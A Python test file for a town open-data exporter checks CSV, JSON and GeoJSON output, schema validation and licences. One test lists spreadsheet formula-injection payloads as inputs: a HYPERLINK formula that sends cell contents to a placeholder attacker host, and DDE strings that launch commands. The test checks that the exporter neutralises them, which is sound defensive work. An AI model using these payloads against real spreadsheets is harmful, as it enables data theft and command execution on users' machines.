"""What a cell holds: commas, quotes, lines and lists come out as they went in, and what nobody knows is empty."""

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugins.core.infrastructure.clock import PARIS
from plugins.core.publication.kind import Field, Kind
from plugins.core.publication.room import Column, Dataset
from plugins.core.publication.untrusted_text import format_text_cell
from plugins.town.opendata.settings import parse_licence
from plugins.town.opendata.table_files import build_table_schema, derive_dataset, format_csv, format_geojson, format_json
from tests.opendata.rules_table import wrong

COLUMNS = (
    Column("nom", "Le nom.", required=True),
    Column("nombre", "Un nombre.", "number"),
    Column("oui", "Oui ou non.", "boolean"),
    Column("jour", "Un jour.", "date"),
    Column("instant", "Un instant.", "datetime"),
    Column("mots", "Des mots.", "array"),
)
TABLE = Dataset("essai", "Essai", "Pour voir.", COLUMNS, lambda context: (), position=("latitude", "longitude"))
TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\x00\r", exclude_categories=["Cs", "Cc"]), min_size=1).filter(str.strip)
ROWS = st.lists(
    st.fixed_dictionaries(
        {
            "nom": TEXT,
            "nombre": st.none() | st.floats(allow_nan=False, allow_infinity=False) | st.integers(-(10**9), 10**9),
            "oui": st.none() | st.booleans(),
            "jour": st.none() | st.dates(),
            "instant": st.none() | st.datetimes(datetime(1970, 1, 2), datetime(2100, 1, 1), timezones=st.just(UTC)),
            "mots": st.lists(TEXT, max_size=3),
        }
    ),
    max_size=5,
)


@given(ROWS)
def test_any_rows_are_a_table_that_its_schema_accepts(rows):
    assert list(wrong(format_csv(TABLE, rows), build_table_schema(TABLE))) == []
    names = [row["nom"] for row in csv.DictReader(io.StringIO(format_csv(TABLE, rows).decode(), newline=""))]
    assert names == [format_text_cell(row["nom"]) for row in rows]
    assert [row["mots"] for row in json.loads(format_json(TABLE, rows))] == [row["mots"] for row in rows]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://voleur.example/?"&A1;"Cliquez")',
        *("@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "＝1+1"),
        *("Fête ;=1+1", "Fête\n=1+1", "Fête;@A1"),
    ],
)
def test_a_spreadsheet_shows_the_words_of_a_cell_and_computes_nothing(text):
    written = format_csv(TABLE, [{"nom": text, "mots": [text]}]).decode()
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator, quoting=csv.QUOTE_MINIMAL):
            assert not [cell for cell in row if cell.lstrip('"').startswith(("=", "+", "@", "-", "\t", "＝"))]
    assert json.loads(format_json(TABLE, [{"nom": text}]))[0]["nom"] == text


@pytest.mark.parametrize(
    "text", ["+33 2 61 91 00 12", "-1.25", "02 61 91 00 12", "Salle des fêtes - étage", "a=b", "l’été", "mairie@valbrune.example", "1-3"]
)
def test_what_is_no_formula_is_given_as_it_is(text):
    assert format_text_cell(text) == text


def test_a_schema_refuses_what_is_missing_or_of_another_type():
    assert list(wrong(format_csv(TABLE, [{"nom": ""}]), build_table_schema(TABLE))) == ["line 2: nom is missing"]
    assert "is no number" in next(iter(wrong(format_csv(TABLE, [{"nom": "a", "nombre": "beaucoup"}]), build_table_schema(TABLE))))


def test_an_instant_is_told_in_universal_time():
    (row,) = json.loads(
        format_json(TABLE, [{"nom": "a", "instant": datetime(2026, 3, 29, 3, 30, tzinfo=PARIS), "jour": date(2026, 3, 29)}])
    )
    assert (row["instant"], row["jour"]) == ("2026-03-29T01:30:00Z", "2026-03-29")


def test_what_has_no_place_is_not_on_the_map():
    rows = [{"nom": "ici", "latitude": 49.05, "longitude": 2.1}, {"nom": "nulle part", "latitude": None, "longitude": 2.1}]
    (feature,) = json.loads(format_geojson(TABLE, rows))["features"]
    assert feature["geometry"] == {"type": "Point", "coordinates": [2.1, 49.05]} and feature["properties"]["nom"] == "ici"


def test_a_kind_gives_what_it_exports_and_nothing_else():
    fields = (Field("title", "line", "Titre"), Field("tags", "words", "Mots-clés"), Field("social", "mapping", "Réseaux"))
    kind = Kind("avis", "Avis", "Avis", "avis", "avis/{slug}/", "avis", fields, exports=("title", "tags", "social", "secret"))
    told = [(column.name, column.type) for column in derive_dataset(kind).columns]
    assert told == [("identifiant", "string"), ("titre", "string"), ("mots_cles", "array"), ("adresse_web", "string")]


def test_a_town_chooses_a_licence_that_it_may_choose():
    assert parse_licence("odbl").spdx == "ODbL-1.0"
    with pytest.raises(ValueError, match="licence-ouverte"):
        parse_licence("cc-by")
